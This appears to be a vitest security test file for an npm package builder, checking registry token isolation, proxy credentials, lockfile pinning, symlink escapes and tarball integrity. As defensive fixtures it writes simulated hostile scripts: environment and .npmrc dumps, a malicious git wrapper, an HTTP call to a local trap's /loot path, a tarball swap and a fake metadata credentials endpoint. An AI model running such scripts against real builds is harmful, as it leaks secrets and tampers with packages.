/**
 * The npm-in-git builder's install for a prepare script, against a real
 * Verdaccio that (like GitHub Packages) answers anonymous reads with 401, and a
 * recording HTTPS proxy standing in for the way out to the public registry:
 * an internal name (a scope or package the job's npm sources serve, or the
 * package's own scope) is resolved only from its source's registry, with the
 * token kept out of every file and message; with no such registry the build
 * is refused, naming the dependency, before npm asks anyone.
 */
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { chmodSync, copyFileSync, existsSync, linkSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, utimesSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { packNpm, type InternalNpmRegistry } from '../src/builders/npm.js';
import { runProcess, sealedFolder } from '../src/builders/process.js';
import { MigrateError } from '../src/errors.js';
import { readTarballManifest } from '../src/targets/npm.js';
import { makeTarball, publishVersion } from './support/npm-fixtures.js';
import { startRefusingProxy, type RefusingProxy } from './support/refusing-proxy.js';
import { startRegistry, type RunningRegistry } from './support/verdaccio.js';

let dir: string;
let registry: RunningRegistry;
let proxy: RefusingProxy | undefined;
/** Every host:port (CONNECT) or URL (plain HTTP) that npm tried to reach through the proxy. */
let outbound: string[] = [];

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'cam-builders-npm-'));
  registry = await startRegistry({ dir: join(dir, 'registry'), requireAuthForReads: true });
  await publishVersion(registry.url, registry.token, '@acme-gh/build-tool', '1.0.0', await makeTarball('@acme-gh/build-tool', '1.0.0'));
  // the way out: recorded and refused, so nothing leaves this host whatever the builder does;
  // the builder hands HTTPS_PROXY and NO_PROXY to npm: the internal registry is reached directly, as a company's would be
  proxy = await startRefusingProxy();
  outbound = proxy.outbound;
  proxy.install();
});
afterAll(async () => {
  await proxy?.stop();
  await registry?.stop();
  if (dir) rmSync(dir, { recursive: true, force: true });
});

/** A tagged checkout of an npm package whose prepare script needs `dependency`. */
function checkout(name: string, dependency: string, opts: { lock?: Record<string, unknown> } = {}): string {
  const at = mkdtempSync(join(dir, 'checkout-'));
  const manifest = {
    name,
    version: '1.0.0',
    main: 'index.js',
    license: 'MIT',
    scripts: { prepare: `node -e "require('${dependency}')"` },
    devDependencies: { [dependency]: '1.0.0' },
  };
  writeFileSync(join(at, 'package.json'), JSON.stringify(manifest, null, 2));
  writeFileSync(join(at, 'index.js'), 'module.exports = 1;\n');
  if (opts.lock) writeFileSync(join(at, 'package-lock.json'), JSON.stringify(opts.lock, null, 2));
  return at;
}

/** A checkout holding only this package.json. */
function checkoutOf(manifest: Record<string, unknown>): string {
  const at = mkdtempSync(join(dir, 'checkout-'));
  writeFileSync(join(at, 'package.json'), JSON.stringify(manifest));
  return at;
}

async function pack(checkoutDir: string, name: string, internal?: InternalNpmRegistry[]) {
  const outDir = join(dir, `out-${Math.random().toString(36).slice(2)}`);
  return packNpm({ checkoutDir, subdir: '', name, version: '1.0.0', outDir, timeoutMs: 120_000, ...(internal ? { internal } : {}) });
}

async function refusal(p: Promise<unknown>): Promise<MigrateError> {
  const e = await p.then(
    () => undefined,
    (err: unknown) => err,
  );
  expect(e).toBeInstanceOf(MigrateError);
  return e as MigrateError;
}

describe("a prepare script's dependencies in an internal scope", () => {
  it("are installed from the job's npm source registry, with its token, and nothing goes out", async () => {
    outbound.length = 0;
    const source = { url: registry.url, token: registry.token, scopes: ['@acme-gh'], packages: [] };
    const out = await pack(checkout('@acme-gh/widget', '@acme-gh/build-tool'), '@acme-gh/widget', [source]);
    expect(existsSync(out.path)).toBe(true);
    expect(outbound).toEqual([]);
    // the token was in the environment only: not in npm's output
    expect(out.output).not.toContain(registry.token);
  });

  it('no script sees the token: a dependency\'s install script and the tag\'s own scripts run, without it in their environment or the .npmrc', async () => {
    const dump = join(dir, `scripts-saw-${Math.random().toString(36).slice(2)}.log`);
    // what a hostile script would send away: its whole environment and the .npmrc npm was given
    const spy = (who: string) => `node -e "const fs = require('fs'); let rc = ''; try { rc = fs.readFileSync(process.env.npm_config_userconfig, 'utf8'); } catch {} fs.appendFileSync(${JSON.stringify(dump).replaceAll('"', '\\"')}, '${who} ' + JSON.stringify(process.env) + rc + '\\n')"`;
    const manifest = { name: '@acme-gh/leaky-tool', version: '1.0.0', main: 'index.js', license: 'MIT', scripts: { install: spy('dependency-install') } };
    await publishVersion(registry.url, registry.token, '@acme-gh/leaky-tool', '1.0.0', await makeTarball('@acme-gh/leaky-tool', '1.0.0', { extraFiles: { 'package.json': JSON.stringify(manifest) } }));
    const at = checkout('@acme-gh/leaky', '@acme-gh/leaky-tool');
    const own = JSON.parse(readFileSync(join(at, 'package.json'), 'utf8')) as { scripts: Record<string, string> };
    own.scripts = { prepare: `node -e "require('@acme-gh/leaky-tool')" && ${spy('prepare')}` };
    writeFileSync(join(at, 'package.json'), JSON.stringify(own));
    const source = { url: registry.url, token: registry.token, scopes: ['@acme-gh'], packages: [] };
    const out = await pack(at, '@acme-gh/leaky', [source]);
    expect(existsSync(out.path)).toBe(true);
    const saw = readFileSync(dump, 'utf8');
    expect(saw).not.toContain(registry.token);
    expect(saw).not.toContain('_authToken');
    // both ran (the dependency's install script once, the prepare script once, in the pack)
    expect(saw.split('\n').filter(Boolean).map((l) => l.slice(0, l.indexOf(' ')))).toEqual(['dependency-install', 'prepare']);
  });

  it('a scope of a package a source lists is internal too', async () => {
    outbound.length = 0;
    const source = { url: registry.url, token: registry.token, scopes: [], packages: ['@acme-gh/logger'] };
    await pack(checkout('left-pad-widget', '@acme-gh/build-tool'), 'left-pad-widget', [source]);
    expect(outbound).toEqual([]);
  });

  it("in the package's own scope, with no source serving it: refused, naming the dependency, before npm asks anyone", async () => {
    outbound.length = 0;
    const e = await refusal(pack(checkout('@acme-gh/widget', '@acme-gh/build-tool'), '@acme-gh/widget'));
    expect(e.code).toBe('EBUILD');
    expect(e.message).toContain('@acme-gh/build-tool');
    expect(e.message).toMatch(/internal name.*none of the job's npm sources serves @acme-gh.*never resolved from a public registry/);
    expect(outbound).toEqual([]);
  });

  it('an npm: alias counts by the name it stands for', async () => {
    outbound.length = 0;
    const at = checkout('@acme-gh/widget', '@acme-gh/build-tool');
    writeFileSync(
      join(at, 'package.json'),
      JSON.stringify({ name: '@acme-gh/widget', version: '1.0.0', scripts: { prepare: 'true' }, devDependencies: { tool: 'npm:@acme-gh/build-tool@1.0.0' } }),
    );
    const e = await refusal(pack(at, '@acme-gh/widget', [{ url: registry.url, scopes: ['@other'], packages: [] }]));
    expect(e.message).toContain('@acme-gh/build-tool');
    expect(outbound).toEqual([]);
  });

  it('pinned by the lockfile at the public registry: refused, even with a source for the scope', async () => {
    outbound.length = 0;
    const lock = {
      name: '@acme-gh/widget',
      version: '1.0.0',
      lockfileVersion: 3,
      requires: true,
      packages: {
        '': { name: '@acme-gh/widget', version: '1.0.0', devDependencies: { '@acme-gh/build-tool': '1.0.0' } },
        'node_modules/@acme-gh/build-tool': { version: '1.0.0', resolved: 'https://registry.npmjs.org/@acme-gh/build-tool/-/build-tool-1.0.0.tgz', dev: true },
      },
    };
    const source = { url: registry.url, token: registry.token, scopes: ['@acme-gh'], packages: [] };
    const e = await refusal(pack(checkout('@acme-gh/widget', '@acme-gh/build-tool', { lock }), '@acme-gh/widget', [source]));
    expect(e.code).toBe('EBUILD');
    expect(e.message).toContain('@acme-gh/build-tool');
    expect(e.message).toContain('the lockfile pins it at https://registry.npmjs.org/');
    expect(outbound).toEqual([]);
  });

  it('an unscoped internal package: refused (npm can route only a scope to another registry)', async () => {
    outbound.length = 0;
    const e = await refusal(pack(checkout('widget', 'acme-build-tool'), 'widget', [{ url: registry.url, scopes: [], packages: ['acme-build-tool'] }]));
    expect(e.code).toBe('EBUILD');
    expect(e.message).toContain('acme-build-tool');
    expect(outbound).toEqual([]);
  });

  // the check that the proxy sees what npm would fetch publicly, so the empty logs above mean something
  it('a public dependency is still fetched where pacote fetches it (here: the proxy, which refuses)', async () => {
    outbound.length = 0;
    const e = await refusal(pack(checkout('@acme-gh/widget', 'left-pad'), '@acme-gh/widget', [{ url: registry.url, scopes: ['@acme-gh'], packages: [] }]));
    expect(e.code).toBe('EBUILD');
    expect(outbound.some((u) => u.startsWith('registry.npmjs.org'))).toBe(true);
  });
});

/** A registry a tag would rather its install used: every request it gets, with the Authorization header it came with. */
async function startTrap(): Promise<{ url: string; seen: { url: string; authorization?: string }[]; stop(): Promise<void> }> {
  const seen: { url: string; authorization?: string }[] = [];
  const server = createServer((req, res) => {
    seen.push({ url: req.url ?? '', ...(req.headers.authorization ? { authorization: req.headers.authorization } : {}) });
    res.writeHead(404, { 'content-type': 'application/json' }).end('{}');
  });
  await new Promise<void>((res) => server.listen(0, '127.0.0.1', res));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/`, seen, stop: () => new Promise<void>((res) => server.close(() => res())) };
}

describe("a .npmrc committed in the tag (npm's project config, above the install's own)", () => {
  it("cannot route the internal scope elsewhere and have npm send the token there: the install resolves it from the source's registry", async () => {
    const trap = await startTrap();
    try {
      const at = checkout('@acme-gh/sly', '@acme-gh/build-tool');
      // the variable is the builder's, and its name is no secret: npm expands ${VAR} in an .npmrc
      const rc = `@acme-gh:registry=${trap.url}\n${trap.url.replace(/^http:/, '')}:_authToken=\${CAM_NPM_SOURCE_TOKEN_0}\n`;
      writeFileSync(join(at, '.npmrc'), rc);
      const source = { url: registry.url, token: registry.token, scopes: ['@acme-gh'], packages: [] };
      const out = await pack(at, '@acme-gh/sly', [source]);
      expect(existsSync(out.path)).toBe(true);
      expect(trap.seen).toEqual([]);
      // put back as it was, for the steps that hold no token
      expect(readFileSync(join(at, '.npmrc'), 'utf8')).toBe(rc);
    } finally {
      await trap.stop();
    }
  });

  it('cannot name a program npm runs during the install (git, for a git dependency: allowed when the install holds no token); the settings that only shape the install still apply', async () => {
    // a git dependency npm clones during the install, with the program the .npmrc names
    const dep = mkdtempSync(join(dir, 'git-dep-'));
    writeFileSync(join(dep, 'package.json'), JSON.stringify({ name: 'git-dep', version: '1.0.0' }));
    const git = (...args: string[]) => execFileSync('git', ['-c', 'user.email=t@t', '-c', 'user.name=t', ...args], { cwd: dep, stdio: 'ignore' });
    git('init', '-q');
    git('add', '.');
    git('commit', '-qm', 'dep');
    const loot = join(dir, `loot-${Math.random().toString(36).slice(2)}`);
    const evil = join(dir, `evil-git-${Math.random().toString(36).slice(2)}.sh`);
    writeFileSync(evil, `#!/bin/sh\nenv >> ${loot}\nexec git "$@"\n`, { mode: 0o755 });
    const at = checkoutOf({ name: 'sly-git', version: '1.0.0', license: 'MIT', scripts: { prepare: 'true' }, dependencies: { 'git-dep': `git+file://${dep}` } });
    writeFileSync(join(at, '.npmrc'), `git=${evil}\npackage-lock=false\nregistry=http://127.0.0.1:9/\n`);
    const out = await pack(at, 'sly-git');
    expect(existsSync(out.path)).toBe(true);
    // the install (the one step with the network) never ran the tag's program, nor did any later step
    expect(existsSync(loot)).toBe(false);
    // package-lock=false was the install's too: npm wrote no lockfile; `registry` was not (port 9 answers nothing)
    expect(existsSync(join(at, 'package-lock.json'))).toBe(false);
    expect(existsSync(join(at, 'node_modules', 'git-dep', 'package.json'))).toBe(true);
  });
});

describe('a proxy that takes a password', () => {
  it("the install has it; the scripts (the tag's, its dependencies') get the proxy without user and password", async () => {
    const dump = join(dir, `proxy-saw-${Math.random().toString(36).slice(2)}.log`);
    const at = checkout('@acme-gh/proxied', '@acme-gh/build-tool');
    const own = JSON.parse(readFileSync(join(at, 'package.json'), 'utf8')) as { scripts: Record<string, string> };
    own.scripts = { prepare: `node -e "require('fs').writeFileSync(${JSON.stringify(dump).replaceAll('"', '\\"')}, JSON.stringify(process.env))"` };
    writeFileSync(join(at, 'package.json'), JSON.stringify(own));
    const saved = process.env.HTTPS_PROXY;
    const url = new URL(saved!);
    url.username = 'cam-proxy-user';
    url.password = 'cam-proxy-pass-4711';
    process.env.HTTPS_PROXY = url.href;
    try {
      const out = await pack(at, '@acme-gh/proxied', [{ url: registry.url, token: registry.token, scopes: ['@acme-gh'], packages: [] }]);
      expect(existsSync(out.path)).toBe(true);
    } finally {
      process.env.HTTPS_PROXY = saved;
    }
    const env = JSON.parse(readFileSync(dump, 'utf8')) as Record<string, string>;
    expect(JSON.stringify(env)).not.toContain('cam-proxy-pass-4711');
    expect(env.HTTPS_PROXY).toBe(new URL(saved!).href);
  });
});

describe('the network of the steps that run scripts', () => {
  it("none by default: the tag's prepare script reaches nothing (the install before it still reaches the source registry); build.network lets it", async () => {
    const trap = await startTrap();
    try {
      const at = checkout('@acme-gh/caller', '@acme-gh/build-tool');
      const own = JSON.parse(readFileSync(join(at, 'package.json'), 'utf8')) as { scripts: Record<string, string> };
      own.scripts = { prepare: `node -e "require('@acme-gh/build-tool'); require('http').get('${trap.url}loot').on('error', (e) => console.log('prepare could not send:', e.code))"` };
      writeFileSync(join(at, 'package.json'), JSON.stringify(own));
      const source = { url: registry.url, token: registry.token, scopes: ['@acme-gh'], packages: [] };
      const offline = await pack(at, '@acme-gh/caller', [source]);
      expect(offline.output).toContain('prepare could not send: ENETUNREACH');
      expect(trap.seen).toEqual([]);
      rmSync(join(at, 'node_modules'), { recursive: true, force: true });
      const outDir = join(dir, `out-${Math.random().toString(36).slice(2)}`);
      await packNpm({ checkoutDir: at, subdir: '', name: '@acme-gh/caller', version: '1.0.0', outDir, timeoutMs: 120_000, internal: [source], network: true });
      expect(trap.seen).toEqual([{ url: '/loot' }]);
    } finally {
      await trap.stop();
    }
  });
});

describe('what the pack leaves in the output folder', () => {
  it("a named pipe where the tarball should be (the job's own build command can put one there) is EBADBUILD at once, never read", async () => {
    const at = mkdtempSync(join(dir, 'checkout-'));
    writeFileSync(join(at, 'package.json'), JSON.stringify({ name: 'piped', version: '1.0.0', main: 'index.js', license: 'MIT' }));
    writeFileSync(join(at, 'index.js'), 'module.exports = 1;\n');
    const outDir = join(dir, `out-${Math.random().toString(36).slice(2)}`);
    const e = await refusal(packNpm({ checkoutDir: at, subdir: '', name: 'piped', version: '1.0.0', outDir, timeoutMs: 120_000, command: ['mkfifo', '{outdir}/piped-1.0.0.tgz'] }));
    expect(e.code).toBe('EBADBUILD');
    expect(e.message).toContain('piped-1.0.0.tgz in the output folder is not a regular file but a named pipe');
  }, 60_000);
});

describe('a pack script that replaces the tarball npm packed (postpack runs after npm wrote it and computed its integrity)', () => {
  it('cannot: the tarball is the one npm packed of what prepack and prepare built, and no script of the tag runs after the pack', async () => {
    const at = mkdtempSync(join(dir, 'checkout-'));
    const ran = join(dir, `postpack-ran-${Math.random().toString(36).slice(2)}`);
    // a tarball of the same name and version, with a file npm never packed (the target's name and version check passes it)
    const swap = `mkdir -p swap/package && cp package.json swap/package/ && echo stolen > swap/package/evil.js && tar czf "$npm_config_pack_destination/swapped-1.0.0.tgz" -C swap package && touch ${ran}`;
    writeFileSync(join(at, 'package.json'), JSON.stringify({
      name: 'swapped', version: '1.0.0', main: 'index.js', license: 'MIT',
      scripts: { prepack: 'echo packed > prepacked.js', prepare: 'echo prepared > prepared.js', postpack: swap },
    }));
    writeFileSync(join(at, 'index.js'), 'module.exports = 1;\n');
    const out = await packNpm({ checkoutDir: at, subdir: '', name: 'swapped', version: '1.0.0', outDir: join(dir, `out-swapped-${Math.random().toString(36).slice(2)}`), timeoutMs: 120_000 });
    const entries = execFileSync('tar', ['-tzf', out.path], { encoding: 'utf8' }).split('\n').filter(Boolean).sort();
    expect(entries).toEqual(['package/index.js', 'package/package.json', 'package/prepacked.js', 'package/prepared.js']);
    expect(existsSync(ran)).toBe(false);
  }, 120_000);
});

describe('the same tag packed twice', () => {
  // a plan run elsewhere, a lost state directory, a second machine: the rebuild must be
  // the bytes the target holds, or the version is a conflict (as Python sdists were)
  it("in two checkouts with other file times, a prepare script stamping the build's time (SOURCE_DATE_EPOCH when set, as reproducible builds do): the same bytes, the commit's time", async () => {
    const commitTime = new Date('2024-02-29T12:00:00Z');
    const stamp = `node -e "const t = process.env.SOURCE_DATE_EPOCH ? Number(process.env.SOURCE_DATE_EPOCH) * 1000 : Date.now(); require('fs').writeFileSync('built.js', 'module.exports = ' + JSON.stringify(new Date(t).toISOString()) + ';')"`;
    const hashes: string[] = [];
    let built = '';
    for (const shift of [0, 7200]) {
      const at = mkdtempSync(join(dir, 'checkout-'));
      writeFileSync(join(at, 'package.json'), JSON.stringify({ name: 'twice', version: '1.0.0', main: 'built.js', license: 'MIT', scripts: { prepare: stamp } }));
      writeFileSync(join(at, 'index.js'), 'module.exports = 1;\n');
      const when = new Date(Date.now() + shift * 1000);
      for (const f of ['package.json', 'index.js']) utimesSync(join(at, f), when, when);
      const { path, builtWith } = await packNpm({ checkoutDir: at, subdir: '', name: 'twice', version: '1.0.0', outDir: join(dir, `out-twice-${shift}`), timeoutMs: 120_000, commitTime });
      hashes.push(createHash('sha512').update(readFileSync(path)).digest('hex'));
      // what a rebuild needs to give these bytes: the node and npm the build ran
      expect(builtWith).toEqual({ node: execFileSync('node', ['--version'], { encoding: 'utf8' }).trim().replace(/^v/, ''), npm: execFileSync('npm', ['--version'], { encoding: 'utf8' }).trim() });
      built = readFileSync(join(at, 'built.js'), 'utf8');
    }
    expect(hashes[0]).toBe(hashes[1]);
    expect(built).toBe('module.exports = "2024-02-29T12:00:00.000Z";');
  }, 120_000);
});

describe('what the tag gives this process to read (package.json and the lockfile are parsed here, not in the contained build)', () => {
  const tag = (files: Record<string, string>, links: Record<string, string> = {}) => {
    const at = mkdtempSync(join(dir, 'checkout-'));
    for (const [f, text] of Object.entries(files)) writeFileSync(join(at, f), text);
    for (const [f, target] of Object.entries(links)) symlinkSync(target, join(at, f));
    return at;
  };
  const manifest = JSON.stringify({ name: 'big', version: '1.0.0', scripts: { prepare: 'true' } });

  it('a package.json of 20 MB is ETOOLARGE naming it, before it is read', async () => {
    const e = await refusal(pack(tag({ 'package.json': JSON.stringify({ name: 'big', version: '1.0.0', description: 'x'.repeat(20 * 1024 * 1024) }) }), 'big'));
    expect(e.code).toBe('ETOOLARGE');
    expect(e.message).toMatch(/the tag's package.json is \d+ bytes, more than the 16777216 read/);
  });

  it('a package.json or a lockfile that is a link to a device (read for ever) is EBADBUILD at once', async () => {
    const e = await refusal(pack(tag({}, { 'package.json': '/dev/zero' }), 'big'));
    expect(e.code).toBe('EBADBUILD');
    expect(e.message).toContain("the tag's package.json is not a regular file");
    // a lockfile can be a device only as a link out of the checkout: refused as one before anything reads it
    const lock = await refusal(pack(tag({ 'package.json': manifest }, { 'package-lock.json': '/dev/zero' }), 'big'));
    expect(lock.code).toBe('EBADSOURCE');
    expect(lock.message).toContain('symbolic links that lead out of the repository: package-lock.json');
  }, 30_000);
});

describe("what the install fetched, for the scripts after it", () => {
  it("a URL the tag names (a cloud metadata service, here a local server) is fetched by the install, and its answer is gone before any script runs: a prepare script cannot pack it", async () => {
    const ANSWER = 'cam-metadata-answer-5150';
    const server = createServer((_req, res) => res.end(JSON.stringify({ SecretAccessKey: ANSWER })));
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    try {
      const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/latest/meta-data/iam/security-credentials/role`;
      const at = mkdtempSync(join(dir, 'checkout-'));
      // an optional dependency that fails leaves the install a success; the prepare script looks for the answer in npm's cache and logs
      const look = `node -e "const fs = require('fs'), p = require('path'); const found = []; const walk = (d) => { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const f = p.join(d, e.name); if (e.isDirectory()) walk(f); else if (fs.readFileSync(f, 'latin1').includes('${ANSWER}')) found.push(f); } }; walk(process.env.HOME); fs.mkdirSync('dist', { recursive: true }); fs.writeFileSync('dist/found.json', JSON.stringify(found));"`;
      writeFileSync(join(at, 'package.json'), JSON.stringify({ name: 'looter', version: '1.0.0', license: 'MIT', files: ['dist'], scripts: { prepare: look }, optionalDependencies: { creds: url } }));
      const out = await pack(at, 'looter');
      const listing = execFileSync('tar', ['-xzOf', out.path, 'package/dist/found.json'], { encoding: 'utf8' });
      expect(JSON.parse(listing)).toEqual([]);
    } finally {
      await new Promise((r) => server.close(r));
    }
  });
});

describe('a package in a workspace (a monorepo: npm installs for the workspace root above its folder)', () => {
  /** A root whose workspaces are packages/*: `packages/widget` (the package, with a prepare script) and `packages/other`, which needs `dependency`. */
  const monorepo = (dependency: string, where: 'sibling' | 'root' | 'lock') => {
    const at = mkdtempSync(join(dir, 'monorepo-'));
    const root: Record<string, unknown> = { name: 'mono', private: true, workspaces: ['packages/*'] };
    if (where === 'root') root.devDependencies = { [dependency]: '1.0.0' };
    writeFileSync(join(at, 'package.json'), JSON.stringify(root));
    for (const [pkg, manifest] of [
      ['widget', { name: '@acme-gh/widget', version: '1.0.0', license: 'MIT', scripts: { prepare: 'true' } }],
      ['other', { name: '@acme-gh/other', version: '1.0.0', license: 'MIT', ...(where === 'sibling' ? { dependencies: { [dependency]: '1.0.0' } } : {}) }],
    ] as const) {
      execFileSync('mkdir', ['-p', join(at, 'packages', pkg)]);
      writeFileSync(join(at, 'packages', pkg, 'package.json'), JSON.stringify(manifest));
    }
    if (where === 'lock') {
      // the workspace's lockfile is the root's: it pins a package of the internal scope at the public registry
      writeFileSync(join(at, 'package-lock.json'), JSON.stringify({
        name: 'mono',
        lockfileVersion: 3,
        requires: true,
        packages: {
          '': { name: 'mono', workspaces: ['packages/*'] },
          'node_modules/@acme-gh/widget': { resolved: 'packages/widget', link: true },
          'node_modules/@acme-gh/other': { resolved: 'packages/other', link: true },
          'packages/widget': { name: '@acme-gh/widget', version: '1.0.0' },
          'packages/other': { name: '@acme-gh/other', version: '1.0.0', dependencies: { [dependency]: '1.0.0' } },
          [`node_modules/${dependency}`]: { version: '1.0.0', resolved: `https://registry.npmjs.org/${dependency}/-/${dependency.split('/')[1]}-1.0.0.tgz` },
        },
      }));
    }
    return at;
  };
  const packWidget = (at: string, internal: InternalNpmRegistry[]) =>
    packNpm({ checkoutDir: at, subdir: 'packages/widget', name: '@acme-gh/widget', version: '1.0.0', outDir: join(dir, `out-${Math.random().toString(36).slice(2)}`), timeoutMs: 120_000, internal });

  it("a sibling workspace's internal dependency with no source for its scope: refused, naming it, before npm asks anyone", async () => {
    outbound.length = 0;
    const e = await refusal(packWidget(monorepo('@acme-gh/secret-lib', 'sibling'), []));
    expect(e.code).toBe('EBUILD');
    expect(e.message).toContain('@acme-gh/secret-lib');
    expect(outbound).toEqual([]);
  });

  it("the workspace root's internal dependency: resolved from the source's registry, nothing goes out", async () => {
    outbound.length = 0;
    const source = { url: registry.url, token: registry.token, scopes: ['@acme-gh'], packages: [] };
    const out = await packWidget(monorepo('@acme-gh/build-tool', 'root'), [source]);
    expect(existsSync(out.path)).toBe(true);
    expect(outbound).toEqual([]);
  });

  it("a member whose package.json is not JSON: EBADBUILD naming that file", async () => {
    const at = monorepo('@acme-gh/build-tool', 'root');
    writeFileSync(join(at, 'packages', 'other', 'package.json'), '{ not json');
    const e = await refusal(packWidget(at, []));
    expect(e.code).toBe('EBADBUILD');
    expect(e.message).toContain('packages/other/package.json');
  });

  it("the workspace root's lockfile pinning an internal name at the public registry: refused", async () => {
    outbound.length = 0;
    const source = { url: registry.url, token: registry.token, scopes: ['@acme-gh'], packages: [] };
    const e = await refusal(packWidget(monorepo('@acme-gh/build-tool', 'lock'), [source]));
    expect(e.code).toBe('EBUILD');
    expect(e.message).toContain('the lockfile pins it at https://registry.npmjs.org/');
    expect(outbound).toEqual([]);
  });
});

describe("the package's folder at the tag (the job's directory)", () => {
  it('a symbolic link leading out of the checkout: EBADSOURCE naming it, and nothing runs or is written where it leads', async () => {
    // what the link leads to: any folder of this machine with a package.json (here one with a prepare script)
    const elsewhere = mkdtempSync(join(dir, 'elsewhere-'));
    writeFileSync(join(elsewhere, 'package.json'), JSON.stringify({ name: 'linked', version: '1.0.0', license: 'MIT', scripts: { prepare: "node -e \"require('fs').writeFileSync('prepared-here', 'x')\"" } }));
    const at = mkdtempSync(join(dir, 'checkout-'));
    writeFileSync(join(at, 'package.json'), JSON.stringify({ name: 'root', version: '1.0.0' }));
    symlinkSync(elsewhere, join(at, 'pkg'));
    const e = await refusal(packNpm({ checkoutDir: at, subdir: 'pkg', name: 'linked', version: '1.0.0', outDir: join(dir, `out-${Math.random().toString(36).slice(2)}`), timeoutMs: 120_000 }));
    expect(e.code).toBe('EBADSOURCE');
    expect(e.message).toContain('pkg');
    expect(existsSync(join(elsewhere, 'prepared-here'))).toBe(false);
  });

  it("a bundled dependency committed as a link out of the checkout (node_modules/x -> a folder of this machine): EBADSOURCE naming it, nothing of that folder packed", async () => {
    // npm pack leaves a plain link out, but follows a bundled dependency's: the folder it leads to
    // (another project of the operator's, with its .env) would be packed and published as the tag's
    const elsewhere = mkdtempSync(join(dir, 'elsewhere-'));
    writeFileSync(join(elsewhere, 'package.json'), JSON.stringify({ name: 'linked-dep', version: '1.0.0' }));
    writeFileSync(join(elsewhere, '.env'), 'SECRET=of-this-machine\n');
    const at = checkoutOf({ name: 'bundler', version: '1.0.0', license: 'MIT', dependencies: { 'linked-dep': '1.0.0' }, bundleDependencies: ['linked-dep'] });
    mkdirSync(join(at, 'node_modules'));
    symlinkSync(elsewhere, join(at, 'node_modules', 'linked-dep'));
    const outDir = join(dir, `out-${Math.random().toString(36).slice(2)}`);
    const e = await refusal(packNpm({ checkoutDir: at, subdir: '', name: 'bundler', version: '1.0.0', outDir, timeoutMs: 120_000 }));
    expect(e.code).toBe('EBADSOURCE');
    expect(e.message).toContain(join('node_modules', 'linked-dep'));
    expect(existsSync(join(outDir, 'package.tgz'))).toBe(false);
  });

  it('a link to a folder inside the checkout is built as that folder', async () => {
    const at = mkdtempSync(join(dir, 'checkout-'));
    execFileSync('mkdir', ['-p', join(at, 'real')]);
    writeFileSync(join(at, 'real', 'package.json'), JSON.stringify({ name: 'inside', version: '1.0.0', license: 'MIT' }));
    symlinkSync('real', join(at, 'pkg'));
    const out = await packNpm({ checkoutDir: at, subdir: 'pkg', name: 'inside', version: '1.0.0', outDir: join(dir, `out-${Math.random().toString(36).slice(2)}`), timeoutMs: 120_000 });
    expect(existsSync(out.path)).toBe(true);
  });
});

describe("a tag whose package.json is not the version the tag names (the version not bumped, another package)", () => {
  const tagged = (manifest: Record<string, unknown>) => checkoutOf({ license: 'MIT', scripts: { prepare: "node -e \"require('fs').writeFileSync('prepared', 'x')\"" }, ...manifest });
  const packAs = (at: string, name: string, version: string) => packNpm({ checkoutDir: at, subdir: '', name, version, outDir: join(dir, `out-${Math.random().toString(36).slice(2)}`), timeoutMs: 120_000 });

  it('is EBADSOURCE naming what the package.json says, before any install or script runs', async () => {
    const old = tagged({ name: 'bumped', version: '1.0.0' });
    const e = await refusal(packAs(old, 'bumped', '1.1.0'));
    expect(e.code).toBe('EBADSOURCE');
    expect(e.actual).toBe('bumped@1.0.0');
    expect(existsSync(join(old, 'prepared'))).toBe(false);
    const other = tagged({ name: '@elsewhere/widget', version: '1.1.0' });
    const n = await refusal(packAs(other, '@acme-gh/widget', '1.1.0'));
    expect(n.code).toBe('EBADSOURCE');
    expect(n.actual).toBe('@elsewhere/widget@1.1.0');
    expect(existsSync(join(other, 'prepared'))).toBe(false);
  });

  it('a version spelled loosely (a leading v, build metadata), as npm normalises it when publishing, is the same version', async () => {
    for (const version of ['v1.1.0', '1.1.0+build.7']) {
      const out = await packAs(tagged({ name: 'loose', version }), 'loose', '1.1.0');
      expect(existsSync(out.path)).toBe(true);
    }
  });
});

describe("the manifest's overrides (a public package replaced by an internal fork)", () => {
  /** @acme-gh/widget 1.0.0 with a prepare script (so the install runs) and these dependencies and overrides. */
  const widget = (deps: Record<string, unknown>) => checkoutOf({ name: '@acme-gh/widget', version: '1.0.0', license: 'MIT', scripts: { prepare: 'true' }, ...deps });

  it("an internal name an override brings in is resolved from its source's registry, and nothing goes out", async () => {
    // a dependency of the tag's dependency, replaced by a fork in another internal scope
    const withDep = { name: '@acme-gh/with-dep', version: '1.0.0', main: 'index.js', license: 'MIT', dependencies: { 'tiny-public': '^1.0.0' } };
    await publishVersion(registry.url, registry.token, '@acme-gh/with-dep', '1.0.0', await makeTarball('@acme-gh/with-dep', '1.0.0', { extraFiles: { 'package.json': JSON.stringify(withDep) } }));
    await publishVersion(registry.url, registry.token, '@acme-forks/tiny', '1.0.0', await makeTarball('@acme-forks/tiny', '1.0.0'));
    outbound.length = 0;
    const at = widget({ devDependencies: { '@acme-gh/with-dep': '1.0.0' }, overrides: { '@acme-gh/with-dep': { 'tiny-public': 'npm:@acme-forks/tiny@1.0.0' } } });
    const source = { url: registry.url, token: registry.token, scopes: ['@acme-gh', '@acme-forks'], packages: [] };
    const out = await pack(at, '@acme-gh/widget', [source]);
    expect(existsSync(out.path)).toBe(true);
    expect(existsSync(join(at, 'node_modules', 'tiny-public', 'package.json'))).toBe(true);
    expect(outbound).toEqual([]);
  });

  it('an internal name an override brings in, with no source for its scope: refused, naming it, before npm asks anyone', async () => {
    outbound.length = 0;
    const at = widget({ devDependencies: { 'public-tool': '^1.0.0' }, overrides: { 'public-tool': { 'left-pad': 'npm:@acme-gh/left-pad-fork@1.0.0' } } });
    const e = await refusal(pack(at, '@acme-gh/widget'));
    expect(e.code).toBe('EBUILD');
    expect(e.message).toContain('@acme-gh/left-pad-fork');
    expect(outbound).toEqual([]);
  });
});

describe("an internal dependency's own internal dependencies (not named by the tag, nor by a lockfile)", () => {
  it("are resolved from the source's registry of their scope too, and nothing goes out", async () => {
